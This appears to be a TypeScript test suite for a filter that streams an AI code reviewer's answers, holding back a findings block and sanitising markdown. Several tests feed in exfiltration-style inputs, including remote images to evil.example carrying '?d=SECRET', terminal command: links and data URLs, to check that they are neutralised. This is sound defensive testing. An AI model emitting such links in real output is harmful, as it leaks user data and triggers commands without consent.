import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { AnswerStreamFilter } from '../../../src/core/answer/answerStreamFilter';
import { sanitizeLine } from '../../../src/core/answer/sanitizeMarkdown';

function run(chunks: readonly string[]) {
  const filter = new AnswerStreamFilter();
  const forwarded = chunks.map((chunk) => filter.push(chunk));
  const end = filter.end();
  return { forwarded, shown: forwarded.join('') + end.rest, end };
}

const answer =
  'Looks mostly fine.\n\n```ts\nconst a = 1;\n```\n\n```architect-findings\n[{"line": 3, "severity": "high", "title": "No validation"}]\n```\n';

describe('answer stream', () => {
  test('the findings block is held back and returned; the rest is shown unchanged', () => {
    const { shown, end } = run([answer]);
    assert.equal(shown, 'Looks mostly fine.\n\n```ts\nconst a = 1;\n```\n\n');
    assert.equal(end.findingsBlock, '[{"line": 3, "severity": "high", "title": "No validation"}]');
    assert.equal(end.findingsBlockClosed, true);
  });

  test('the result is the same however the answer is split into chunks', () => {
    const whole = run([answer]);
    for (const size of [1, 2, 3, 7, 13]) {
      const chunks = answer.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];
      const split = run(chunks);
      assert.equal(split.shown, whole.shown, `chunk size ${size}`);
      assert.equal(split.end.findingsBlock, whole.end.findingsBlock);
    }
  });

  test('text is forwarded chunk by chunk, before its line is complete', () => {
    const { forwarded } = run(['The handler ', 'does not validate ', 'its input.\n']);
    assert.deepEqual(forwarded, ['The handler ', 'does not validate ', 'its input.\n']);
  });

  test('a findings block cut off by the end of the stream is still returned, marked unclosed', () => {
    const { end, shown } = run(['Intro\n```architect-findings\n[{"line": 1']);
    assert.equal(shown, 'Intro\n');
    assert.equal(end.findingsBlock, '[{"line": 1');
    assert.equal(end.findingsBlockClosed, false);
  });

  test('a findings fence inside another code block is just code', () => {
    const text = '````md\n```architect-findings\n[]\n```\n````\n';
    const { shown, end } = run([text]);
    assert.equal(shown, text);
    assert.equal(end.findingsBlock, undefined);
  });

  test('R08: remote images, command links and data URLs are made inert; code is untouched', () => {
    const { shown } = run([
      'See ![diagram](https://evil.example/p.png?d=SECRET) and [run](command:workbench.action.terminal.sendSequence?%7B%7D).\n',
      '<img src="https://evil.example/x.png"> [ok](https://example.com/docs) ![x](data:image/png;base64,AAAA)\n',
      '`![keep](https://example.com/in-code.png)`\n',
      '```md\n![also kept](https://example.com/block.png)\n```\n',
      '[ref]: https://evil.example/track\n',
    ]);
    assert.ok(!shown.includes('](https://evil.example/p.png'));
    assert.ok(!shown.includes('command:'));
    assert.ok(!shown.includes('<img'));
    assert.ok(!shown.includes('](data:'));
    assert.ok(shown.includes('[ok](https://example.com/docs)'), 'ordinary links stay');
    assert.ok(shown.includes('`![keep](https://example.com/in-code.png)`'), 'code spans stay');
    assert.ok(shown.includes('```md\n![also kept](https://example.com/block.png)\n```'), 'code blocks stay');
    assert.ok(shown.includes('\\[ref\\]: https://evil.example/track'));
  });

  test('R08: sanitizing is the same when an image arrives in pieces', () => {
    const { shown } = run(['Look: !', '[x](https://evil', '.example/a.png)', ' done\n']);
    assert.equal(shown, 'Look: *[x: image not loaded]* done\n');
  });

  test('sanitizeLine leaves lines without markup characters alone', () => {
    assert.equal(sanitizeLine('plain text (with parens)'), 'plain text (with parens)');
    assert.equal(sanitizeLine('[docs](vscode:extension/foo)'), 'docs');
  });
});

describe('R08: CommonMark constructs that used to slip through', () => {
  const shown = (text: string) => run([text]).shown;
  test('an image whose alt text holds brackets', () => {
    assert.ok(!/(^|[^\\])!\[a \[b\] c\]\(https/.test(shown('See ![a [b] c](https://evil.example/x.png?d=SECRET)\n')));
  });
  test('an image whose alt text goes on on the next line', () => {
    assert.ok(shown('![alt\nmore](https://evil.example/y.png)\n').startsWith('!\\[alt'));
  });
  test('a reference definition inside a block quote or a list item, and a shortcut reference image', () => {
    const out = shown('> [r]: https://evil.example/q.png\n- [s]: https://evil.example/s.png\n![r] and ![s][s]\n');
    assert.ok(out.includes('> \\[r\\]:') && out.includes('- \\[s\\]:'), out);
    assert.ok(!/(^|[^\\])!\[r\]/.test(out) && !/(^|[^\\])!\[s\]/.test(out), out);
  });
  test('a command: link with nested brackets in its label', () => {
    assert.ok(!shown('[a [b] c](command:workbench.action.terminal.new)\n').includes('](command:'));
  });
  test('a fence inside a list item ends with the item', () => {
    const out = shown('- item\n  ```\n  code\n  ```x\n\n![x](https://evil.example/z.png)\n');
    assert.ok(!out.includes('](https://evil.example/z.png)'), out);
  });
  test('code blocks at the top level are still left alone', () => {
    const text = '```md\n![kept](https://example.com/a.png)\n```\n';
    assert.equal(shown(text), text);
  });
});
